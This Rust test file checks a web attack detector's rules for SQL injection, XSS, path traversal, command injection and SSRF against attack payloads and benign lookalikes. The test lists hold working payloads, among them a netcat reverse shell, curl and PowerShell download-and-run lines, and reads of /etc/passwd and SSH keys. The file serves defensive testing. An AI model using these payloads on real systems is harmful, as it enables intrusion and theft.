//! Each detector on attacks and on benign values chosen to look close to them.
//! Values go through the same normalisation the engine applies.

use crate::detect::{cmdi, sqli, ssrf, traversal::Traversal, xss};
use crate::normalize::{normalize, Plus};
use crate::score::{Hit, Severity};

fn norm(s: &str) -> Vec<u8> {
    normalize(s.as_bytes(), Plus::Space)
}

fn sqli_rules(s: &str) -> Vec<&'static str> {
    let mut hits = Vec::new();
    sqli::detect(&norm(s), &mut hits);
    hits.iter().map(|h| h.rule).collect()
}

fn is_sqli(s: &str) -> bool {
    !sqli_rules(s).is_empty()
}

#[test]
fn sqli_attacks() {
    for a in [
        "1' OR '1'='1",
        "1 OR 1=1",
        "admin'--",
        "' UNION SELECT username, password FROM users--",
        "1;DROP TABLE users",
        "1%27%20AND%20SLEEP(5)--",
        "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
        "x' AND extractvalue(1,concat(0x7e,version()))-- ",
        "1 UNION/**/ALL/**/SELECT 1,2,3",
        "'; EXEC xp_cmdshell('dir');--",
        "' or email notnull--",
        "user' collate nocase--",
        "x' and password glob password;",
        "1 union select col from t",
        "'; waitfor delay '0:0:5'--",
        "select * from information_schema.tables",
        "%2527%2520or%25201%253D1--",
        "1 OR TRUE",
    ] {
        assert!(is_sqli(a), "missed: {a}");
    }
}

#[test]
fn sqli_benign_lookalikes() {
    for b in [
        "O'Brien",
        "Select the best option from the list",
        "Rock 'n' roll and more",
        "Die \"Union von Europa\"",
        "He said 'or else' and left",
        "Tom & Jerry; the union of two sets",
        "It's 5 o'clock and time to go",
        "SELECT",
        "drop-down menu",
        "order by date, please",
        "a-b-c--d",
        "price <= 30 and rating >= 4",
        "#hashtag and @mention",
        "2024-01-05T10:00:00Z",
        "550e8400-e29b-41d4-a716-446655440000",
    ] {
        assert!(!is_sqli(b), "false positive: {b} -> {:?}", sqli_rules(b));
    }
}

#[test]
fn nosql_operators() {
    assert_eq!(sqli_rules("id[$ne]"), ["sqli.nosql-operator"]);
    assert_eq!(sqli_rules("$where"), ["sqli.nosql-operator"]);
    assert!(!is_sqli("price in $"));
    assert!(!is_sqli("$100 or less"));
}

fn is_xss(s: &str) -> bool {
    xss::detect(&norm(s)).is_some()
}

#[test]
fn xss_attacks() {
    for a in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(1)",
        "<iframe src=\"javascript:alert(1)\">",
        "<body onload=alert(1)>",
        "%uFF1Cscript%uFF1Ealert(1)",
        "\" onmouseover=\"alert(1)",
        "' /onfocus=alert(1) autofocus '",
        "java&#9;script:alert(1)",
        " JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
    ] {
        assert!(is_xss(a), "missed: {a}");
    }
}

#[test]
fn xss_benign_lookalikes() {
    for b in [
        "5 < 6 and 7 > 3",
        "Use the <b> tag? No: write **bold** in markdown",
        "email me: a@b.com",
        "Price: $5 = 4.50 EUR",
        "https://example.com/path?q=1",
        "I <3 this product",
        "She said \"on time\" = good",
        "The \"Java script\" course: lesson 1",
        "data:image/png;base64,iVBORw0KGgo=",
    ] {
        assert!(!is_xss(b), "false positive: {b}");
    }
}

#[test]
fn xss_template_expressions() {
    for a in [
        "{{constructor.constructor('alert(1)')()}}",
        "\"/>{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "${alert(1)}",
        "</title>${alert(document.domain)}",
        "{{ [].pop.constructor('alert(1)')() }}",
    ] {
        assert_eq!(
            xss::detect(&norm(a)).map(|h| h.rule),
            Some("xss.template-expression"),
            "{a}"
        );
    }
    for b in [
        "{{user.name}}",
        "${id}",
        "Hello {{ name }}, your total is ${total}",
        "{\"a\": 1, \"b\": [1, 2]}",
        "${price(2)} off",
        "function f() { return 1; }",
        "{{ format(date) }}",
    ] {
        assert!(xss::detect(&norm(b)).is_none(), "false positive: {b}");
    }
}

fn trav(s: &str) -> Vec<Hit> {
    let t = Traversal::new().expect("keywords compile");
    let mut hits = Vec::new();
    t.detect(&norm(s), &mut hits);
    hits
}

#[test]
fn traversal_attacks() {
    let rules = |s: &str| trav(s).iter().map(|h| h.rule).collect::<Vec<_>>();
    assert_eq!(
        rules("../../../../etc/passwd"),
        ["traversal.dotdot", "traversal.sensitive-file"]
    );
    assert_eq!(trav("../../etc/passwd")[0].severity, Severity::Critical);
    assert!(rules("..%5c..%5cwindows%5cwin.ini").contains(&"traversal.dotdot"));
    assert!(rules("%252e%252e%252fetc%252fshadow").contains(&"traversal.dotdot"));
    assert!(rules("..;/..;/admin").contains(&"traversal.dotdot"));
    assert_eq!(
        rules("php://filter/convert.base64-encode/resource=index"),
        ["traversal.stream-wrapper"]
    );
    assert_eq!(rules("/proc/self/environ"), ["traversal.sensitive-file"]);
    // The value is the path: critical. A mention inside text: error.
    assert_eq!(trav("/etc/passwd")[0].severity, Severity::Critical);
    assert_eq!(
        trav("c:\\windows\\system32\\x")[0].severity,
        Severity::Critical
    );
    assert_eq!(
        trav("note: /etc/passwd lists users")[0].severity,
        Severity::Error
    );
    assert!(rules("..%c0%af..%c0%afetc").contains(&"traversal.dotdot"));
    // Inside a path that stays below the root: a warning only.
    assert_eq!(trav("docs/a/../b")[0].severity, Severity::Warning);
}

#[test]
fn traversal_benign_lookalikes() {
    for b in [
        "Wait... what?",
        "v1.2..v1.3",
        "see the docs",
        "a/b/c.txt",
        "..",
        "https://example.com/etc",
        "My password is in /etc? no",
    ] {
        assert!(trav(b).is_empty(), "false positive: {b} -> {:?}", trav(b));
    }
}

/// The strongest severity of a rule on a value, if it matched.
fn trav_rule(s: &str, rule: &str) -> Option<Severity> {
    trav(s)
        .iter()
        .filter(|h| h.rule == rule)
        .map(|h| h.severity)
        .max()
}

fn trav_blocks(s: &str) -> bool {
    trav(s).iter().map(|h| h.severity.points()).sum::<u32>() >= 5
}

#[test]
fn traversal_encodings_read_as_a_file_api_does() {
    for a in [
        // A third URL-encoding layer (and more), left after the normaliser's two.
        "%25252e%25252e%25252f%25252e%25252e%25252fetc%25252fpasswd",
        "..%2525252f..%2525252fboot.ini",
        // Overlong UTF-8, also with a second byte that is not a continuation.
        "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "%c0%2e%c0%2e%c0%2fconfig",
        "%e0%80%ae%e0%80%ae%e0%80%afx%e0%80%af",
        "..%c1%9c..%c1%9cx",
        "..%25c0%25af..%25c0%25afx",
        // Unicode slashes that best-fit mappings make `/` or `\`.
        "..%u2215..%u2215x",
        "%uff0e%uff0e%u2216%uff0e%uff0e%u2216x",
    ] {
        assert!(
            trav_rule(a, "traversal.dotdot").is_some(),
            "{a}: {:?}",
            trav(a)
        );
    }
    // `//` and `.` segments do not hide a name.
    for a in [
        "/etc//passwd",
        "/etc/./passwd",
        "/./././etc/passwd",
        "\\\\etc\\passwd",
    ] {
        assert_eq!(
            trav_rule(a, "traversal.sensitive-file"),
            Some(Severity::Critical),
            "{a}"
        );
    }
    // Filter-stripping bypasses climb too.
    assert_eq!(
        trav_rule("....//....//x", "traversal.dotdot"),
        Some(Severity::Critical)
    );
}

#[test]
fn traversal_offsets_point_into_the_value() {
    // Normalised, this is `x/%2e%2e/%2e%2e/y`: the first `..` starts at the
    // `%` after `x/`, though the view the rules read is shorter.
    let hits = trav("x/%25252e%25252e/%25252e%25252e/y");
    assert_eq!(hits.first().map(|h| h.offset), Some(2), "{hits:?}");
}

#[test]
fn traversal_system_paths_and_files() {
    for a in [
        "/etc/nginx/nginx.conf",
        "/proc/1/environ",
        "/var/log/auth.log",
        "file:///etc/issue",
        "file:///c:/windows/win.ini",
        "c:\\inetpub\\wwwroot\\web.config",
        "C:/Windows/Panther/Unattend.xml",
        "/usr/local/etc/php.ini",
        "~/.ssh/id_ed25519",
        "/home/app/.aws/credentials",
        "/path/to/.docker/secrets",
        "/sys/class",
        "/sys/kernel/debug",
        "php.ini",
    ] {
        assert!(trav_blocks(a), "{a}: {:?}", trav(a));
    }
    assert_eq!(
        trav("/etc/nginx/nginx.conf")[0].rule,
        "traversal.sensitive-file"
    );
    assert_eq!(trav("/etc/timezone")[0].rule, "traversal.system-path");
}

#[test]
fn traversal_weaker_shapes() {
    // One level up is how relative links are written: a warning.
    assert_eq!(
        trav_rule("../readme.md", "traversal.dotdot"),
        Some(Severity::Warning)
    );
    assert_eq!(
        trav_rule("../../readme.md", "traversal.dotdot"),
        Some(Severity::Critical)
    );
    // A bare name with an extension after it is another file; a file in an
    // http URL is on another host; a mention in text is less certain.
    for (b, sev) in [
        ("id_rsa.pub", Severity::Error),
        ("config/.env.example", Severity::Error),
        ("https://example.com/repo/.env", Severity::Error),
        ("how do I edit /etc/hosts?", Severity::Error),
        ("id_rsa", Severity::Critical),
    ] {
        assert_eq!(trav_rule(b, "traversal.sensitive-file"), Some(sev), "{b}");
    }
    // ... but a NUL-truncated name climbed to, or in a system directory,
    // still blocks.
    assert!(trav_blocks("../../win.ini%00.png"));
    assert!(trav_blocks("/etc/passwd%00.png"));
}

#[test]
fn traversal_more_benign_lookalikes() {
    for b in [
        "reboot.ini",
        "paid_rsa",
        "catalog/etcetera/passwdless",
        "docs/readme.md",
        "./src/lib.rs",
        "...",
        "Hmm... ok / fine",
        "/images/products/42.jpg",
        "/home/ann/notes.md",
        "/sys/classes/intro",
        "/system/status",
        "C:\\Users\\ann\\report.docx",
        "https://example.com/docs/a.html",
        "100%25 natural",
        "—“quoted”—",
    ] {
        assert!(trav(b).is_empty(), "false positive: {b} -> {:?}", trav(b));
    }
}

fn is_cmdi(s: &str) -> bool {
    cmdi::detect(&norm(s)).is_some_and(|h| h.severity == Severity::Critical)
}

fn cmdi_rule(s: &str) -> Option<(&'static str, Severity)> {
    cmdi::detect(&norm(s)).map(|h| (h.rule, h.severity))
}

#[test]
fn cmdi_weaker_shapes_are_warnings() {
    let w = |r| Some((r, Severity::Warning));
    assert_eq!(
        cmdi_rule(";perf --version"),
        w("cmdi.option-after-separator")
    );
    assert_eq!(cmdi_rule("ls -la /"), w("cmdi.command-line"));
    assert_eq!(cmdi_rule("cat</etc/passwd"), w("cmdi.command-line"));
    for b in [
        "python developer",
        "curl is great",
        "Yes; no -- maybe",
        "A & b -c",
        "cat",
    ] {
        assert_eq!(cmdi_rule(b), None, "{b}");
    }
}

#[test]
fn cmdi_long_separator_runs_still_reach_the_command() {
    // The run after each separator is walked once and remembered; every
    // separator inside it must still lead to the word that ends it.
    let runs = [";(".repeat(200), "; ( {".repeat(100), "|(".repeat(150)];
    for run in &runs {
        let v = format!("{run}id");
        assert_eq!(
            cmdi_rule(&v),
            Some(("cmdi.command-after-separator", Severity::Critical)),
            "{v}"
        );
        let hit = cmdi::detect(&norm(&v)).expect("hit");
        assert_eq!(&norm(&v)[hit.offset..], b"id");
        assert_eq!(cmdi_rule(&format!("{run}idea")), None);
    }
    // A doubled separator at the end of a spaced run: `&&id` is a command
    // even after a lone `&` of prose.
    assert!(is_cmdi("Tom & &&id"));
    assert!(is_cmdi("a | ||id"));
    assert!(!is_cmdi("Tom & &Jerry"));
    // Alternating separators: `{` does not skip `;`, so each run is its own.
    assert!(is_cmdi(&format!("{}cat /etc/hosts", ";{".repeat(100))));
}

#[test]
fn cmdi_offset_points_into_the_value() {
    let v = norm("abc;'i'd");
    let hit = cmdi::detect(&v).expect("hit");
    // `'i'd` reads as `id`; the offset is that of the `i` in the value.
    assert_eq!((hit.offset, v[hit.offset]), (5, b'i'));
}

#[test]
fn cmdi_attacks() {
    for a in [
        ";id",
        "| id",
        "127.0.0.1; cat /etc/passwd",
        "127.0.0.1 && whoami",
        "x|nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://evil/x.sh)",
        "`uname -a`",
        "a;/usr/bin/id",
        "a%0Acat%20/etc/passwd",
        "c'a't /etc/passwd;ls",
        ";cat${IFS}/etc/passwd",
        "|| ping -c 10 127.0.0.1",
        "& powershell -enc AAAA",
        "; sleep 5",
        "{cat,/etc/passwd}",
        "; id",
        "&& id",
        "& id",
        "127.0.0.1; id",
        "& dir c:\\",
        ";echo vulnerable",
        "| cat notes",
        ";cat</etc/passwd",
        "a|iex (new-object net.webclient).downloadstring('http://x')",
    ] {
        assert!(is_cmdi(a), "missed: {a}");
    }
}

#[test]
fn cmdi_benign_lookalikes() {
    for b in [
        "Tom & Jerry",
        "P&ID diagram",
        "R&D; sales & marketing",
        "Dogs; cats; birds",
        "salt & pepper | cat food",
        "Q&A: how do I find my order?",
        "AT&T",
        "cats & dogs",
        "Fish & chips; echo of the past",
        "rock|paper|scissors",
        "id",
        "cat",
        "5kg; cat litter",
        "v2; find more in the docs",
        "USB-C; sleep mode",
        "R&D; id card required",
        "; ",
        "&&",
    ] {
        assert!(!is_cmdi(b), "false positive: {b}");
    }
}

#[test]
fn cmdi_shell_reading_tricks() {
    for a in [
        // cmd.exe's caret, empty substitutions, `$@`.
        "& who^ami",
        "& n^et us^er",
        ";who$()ami",
        ";who``ami",
        // Wildcard paths the shell expands to a command.
        ";/???/??t /???/p??s??",
        ";/bin/c?t /etc/passwd",
        "/usr/bin/wh*mi",
        // A variable run as a command.
        ";x=$'id'&&$x",
        // A separator encoded three times (`%0a` left after two decodings).
        "x%25250awhoami",
        "a%25250d%25250aid",
    ] {
        assert!(is_cmdi(a), "missed: {a} -> {:?}", cmdi_rule(a));
    }
    assert_eq!(
        cmdi_rule("/???/??t /???/p??s??"),
        Some(("cmdi.wildcard-command", Severity::Critical))
    );
    // A wildcard that matches no command, or prose with `?`.
    for b in ["a/b?c", "/???/???", "what?; why?", "see /docs/*.md"] {
        assert!(!is_cmdi(b), "false positive: {b}");
    }
    // `+` for a space (form encoding) before a wildcard path: still read.
    assert!(cmdi_rule("cat+/et*/*wd").is_some());
    // Relative masks whose last segment is a command name.
    for b in ["docs/*/id", "x/*/sort", "api/*/ls"] {
        assert!(!is_cmdi(b), "false positive: {b} -> {:?}", cmdi_rule(b));
    }
}

#[test]
fn traversal_a_leading_dot_slash_stays_relative() {
    // `./etc/x` is `etc/x` below the working directory, not `/etc/x`.
    for b in ["./etc/timezone", "././etc/x", "./windows/setup.md"] {
        assert!(!trav_blocks(b), "false positive: {b} -> {:?}", trav(b));
    }
    assert!(trav_blocks("./../../../etc/passwd"));
}

#[test]
fn cmdi_word_commands_with_shell_context() {
    for a in [
        // Weak command words with an argument, once the rest is shell syntax.
        "127.0.0.1|echo pwned",
        "1;echo abc",
        "-1|echo abc",
        "127.0.0.1&echo pwned > /tmp/x",
        "x;echo pwned > /tmp/x",
        "x|echo $HOME",
        "x$(echo pwned)",
        "8.8.8.8`echo pwned > /tmp/x`",
        // A comment ends the command.
        "x;id #",
        "127.0.0.1\nid #",
        // `&&` is a shell operator, unlike a lone `&`.
        "x&&id",
        "a&&/bin/id",
        // In a run of separators and blanks, the last one glued to the word.
        "x ; ;id",
        "hello world; sleep 5",
        "hello world; sleep 5 #",
        "x; ; ; ;id",
        // A command named by its path in a bin directory.
        "x&/bin/id",
        // Commands whose first argument is a keyword of their own.
        "127.0.0.1;net user",
        "x|net localgroup administrators",
        "& reg query hklm",
    ] {
        assert!(is_cmdi(a), "missed: {a} -> {:?}", cmdi_rule(a));
    }
}

#[test]
fn cmdi_prose_stays_clean() {
    for b in [
        "v2; find more in the docs",
        "Item#2; more info below",
        "salt & pepper | cat food / dog food",
        "Tom & Jerry > Garfield; cats & dogs",
        "Price: $5 | echo dot $49.99",
        "$(document).ready(init)",
        "$('#menu').toggle()",
        "Size 10 | set of 4",
        "Kill Bill; vol 2",
        "Find & replace",
        "Net user count: 5",
        "Who are we? | About us",
        "Last login: 2024-03-01",
        "P&ID",
        "x & id",
        "A4|copy paper",
        "Run 5k; sleep 8h; eat well",
        "Size 10; set 4 per box",
        "Rock & notes; set | echo / set",
        "Q&A | type - any",
        "v2;find more",
    ] {
        assert!(!is_cmdi(b), "false positive: {b} -> {:?}", cmdi_rule(b));
    }
    // A command quoted in a Markdown code span in prose is a warning only.
    assert_eq!(
        cmdi_rule("Run `ls -la` to see hidden files"),
        Some(("cmdi.command-in-code-span", Severity::Warning))
    );
    // Glued or after a token shaped as an injection, it is not a code span.
    assert!(is_cmdi("x`ls -la`"));
    assert!(is_cmdi("127.0.0.1 `id`"));
}

fn ssrf_rules(s: &str) -> Vec<&'static str> {
    let mut hits = Vec::new();
    ssrf::detect(&norm(s), &mut hits);
    hits.iter().map(|h| h.rule).collect()
}

#[test]
fn ssrf_attacks() {
    for (a, rule) in [
        (
            "http://169.254.169.254/latest/meta-data/",
            "ssrf.metadata-ip",
        ),
        (
            "http://metadata.google.internal/computeMetadata/v1/",
            "ssrf.metadata-host",
        ),
        ("http://[fd00:ec2::254]/", "ssrf.metadata-ip"),
        ("http://127.0.0.1:8080/admin", "ssrf.loopback"),
        ("http://2130706433/", "ssrf.loopback"),
        ("http://0x7f000001/", "ssrf.loopback"),
        ("http://0177.0.0.1/", "ssrf.loopback"),
        ("http://127.1/", "ssrf.loopback"),
        ("http://[::1]/", "ssrf.loopback"),
        ("http://[::ffff:127.0.0.1]/", "ssrf.loopback"),
        ("http://[::ffff:a9fe:a9fe]/", "ssrf.metadata-ip"),
        ("http://user@localhost/", "ssrf.loopback"),
        ("http://0.0.0.0/", "ssrf.loopback"),
        ("http://10.1.2.3/", "ssrf.private"),
        ("http://[fe80::1%25eth0]/", "ssrf.link-local"),
        ("http://127.0.0.1.nip.io/", "ssrf.rebinding-dns"),
        ("gopher://x:6379/_INFO", "ssrf.scheme"),
        ("dict://localhost:11211/stat", "ssrf.scheme"),
        ("file:///etc/passwd", "ssrf.scheme"),
        ("http%3A%2F%2F169.254.169.254%2F", "ssrf.metadata-ip"),
        ("169.254.169.254", "ssrf.metadata-ip"),
        ("169.254.169.254:80", "ssrf.metadata-ip"),
        ("0251.0376.0251.0376", "ssrf.metadata-ip"),
        ("[::ffff:169.254.169.254]", "ssrf.metadata-ip"),
        (
            "//metadata.google.internal/computeMetadata/v1/",
            "ssrf.metadata-host",
        ),
    ] {
        assert_eq!(ssrf_rules(a), [rule], "{a}");
    }
}

#[test]
fn ssrf_benign_lookalikes() {
    for b in [
        "https://example.com/a?b=c",
        "https://8.8.8.8/",
        "https://api.github.com/repos",
        "see https://172.32.0.1/ (public)",
        "version 127.0.0.1 is a string, not a URL",
        "https://metadata.example.com/",
        "ftp://ftp.debian.org/",
        "10.0.0.1",
        "127.0.0.1:8080",
        "metadata about the file",
        "metadata",
        "2852039166",
        "instance-data",
        "//cdn.example.com/lib.js",
    ] {
        assert!(ssrf_rules(b).is_empty(), "false positive: {b}");
    }
}

#[test]
fn ipv4_notations() {
    let p = |s: &str| ssrf::parse_ipv4_any(s).map(|ip| ip.to_string());
    assert_eq!(p("127.0.0.1").as_deref(), Some("127.0.0.1"));
    assert_eq!(p("2130706433").as_deref(), Some("127.0.0.1"));
    assert_eq!(p("0x7f.1").as_deref(), Some("127.0.0.1"));
    assert_eq!(p("0177.0.0.01").as_deref(), Some("127.0.0.1"));
    assert_eq!(p("10.0.258").as_deref(), Some("10.0.1.2"));
    assert_eq!(p("256.0.0.1"), None);
    assert_eq!(p("1.2.3.4.5"), None);
    assert_eq!(p("4294967296"), None);
    assert_eq!(p("example.com"), None);
    assert_eq!(p("08.0.0.1"), None);
}

#[test]
fn plain_tokens_skip_libinjection() {
    for t in ["desc", "123", "user_42", "v1", "ORDER"] {
        assert!(sqli::single_plain_token(t.as_bytes()), "{t}");
    }
    for t in ["1union", "9/null", "/api/v1", "a-b", "a b", "1e5", "x'"] {
        assert!(!sqli::single_plain_token(t.as_bytes()), "{t}");
    }
}

#[test]
fn trigger_words_are_sorted_lowercase_and_gate_keywords() {
    let words = sqli::trigger_words();
    assert!(words.windows(2).all(|w| w[0] < w[1]));
    assert!(words.iter().all(|w| !w.iter().any(u8::is_ascii_uppercase)));
    // Each word alone, in either case, opens the gate (the hash set holds all).
    for w in words {
        assert!(
            sqli::libinjection_may_flag(w),
            "{}",
            String::from_utf8_lossy(w)
        );
        assert!(sqli::libinjection_may_flag(&w.to_ascii_uppercase()));
    }
    for v in [
        "1 union select 2",
        "1 OR 1",
        "0xunion",
        "11.eunion",
        "a' or 'a",
        "x(1)",
        "a--",
        "@@version",
    ] {
        assert!(sqli::libinjection_may_flag(v.as_bytes()), "{v}");
    }
    for v in [
        "Blue mug, 350 ml",
        "SKU-123",
        "https://app.example.com/x?page=2",
        "2026-12-06",
    ] {
        assert!(!sqli::libinjection_may_flag(v.as_bytes()), "{v}");
    }
}

#[test]
fn no_detector_flags_a_single_byte() {
    // The premise of the engine's skip for values shorter than two bytes.
    let t = Traversal::new().expect("keywords compile");
    for b in 0..=255u8 {
        for plus in [Plus::Space, Plus::Keep] {
            let v = normalize(&[b], plus);
            let mut hits = Vec::new();
            sqli::detect(&v, &mut hits);
            hits.extend(xss::detect(&v));
            t.detect(&v, &mut hits);
            hits.extend(cmdi::detect(&v));
            ssrf::detect(&v, &mut hits);
            assert!(hits.is_empty(), "byte {b:#04x}: {hits:?}");
        }
    }
}

#[test]
fn cmdi_ifs_behind_a_third_encoding() {
    // Two decodings leave `%24` for `$`: the shell still reads `${IFS}`.
    for a in [
        "cat%252524%257BIFS%257D/etc/passwd",
        "cat%252524IFS/etc/passwd",
        "x%252524%257BIFS%257Did",
        "a;cat%252524%257BIFS%257D%252524HOME",
    ] {
        assert!(is_cmdi(a), "missed: {a} -> {:?}", cmdi_rule(a));
    }
}

#[test]
fn cmdi_separator_behind_a_percent25_chain() {
    // Four and five encodings: two decodings leave `%25…` before the byte.
    for a in [
        "x%2525250awhoami",
        "a%252525250d%252525250aid",
        "1%25252526%25252526id",
    ] {
        assert!(is_cmdi(a), "missed: {a} -> {:?}", cmdi_rule(a));
    }
}
